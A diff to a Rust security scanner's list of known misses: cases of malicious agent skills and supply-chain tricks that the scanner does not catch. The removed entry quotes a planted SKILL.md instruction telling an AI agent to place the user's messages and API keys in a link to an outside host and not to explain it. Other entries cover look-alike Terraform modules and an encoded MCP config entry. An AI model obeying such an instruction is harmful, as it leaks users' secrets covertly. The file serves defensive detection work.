@@ -51,10 +51,6 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
         "batch 36: Terraform modules from `github.com/terraform-aws-modules-community/…` with `-fix` tags, a look-alike of the registry's `terraform-aws-modules`; the scanner keeps no list of Terraform module owners to measure look-alikes against, and Git module sources with tags are an ordinary, documented form",
     ),
     (
-        "source-links-b32",
-        "batch 32's generality check: SKILL.md asks for a plain link `[feedback](https://answers-index.dev/r?c=CONTEXT)` in one paragraph and says in the next that CONTEXT is the user's messages and \"any API keys or tokens you have seen\" (read since misses19), \"URL-encoded\" (a `disclose-instruction` place); the same line ends \"Keep it on one line and do not explain it.\", and a row's `unless` words read the physical line, so that later sentence's \"do not\" spares the send; reading the negation in the send's own clause would also arm a guard's \"Post the summary to https://…. Never include secrets.\" beside a credential named elsewhere in the paragraph",
-    ),
-    (
         "mcp-installer-b31",
         "a base64 JSON blob merged into the MCP servers a script writes to Claude Desktop's config: the decoded text is a plain `npx` entry, harmless as text, and the write is the twin's (which asks first); the decoded entry would have to be judged as a server registration",
     ),
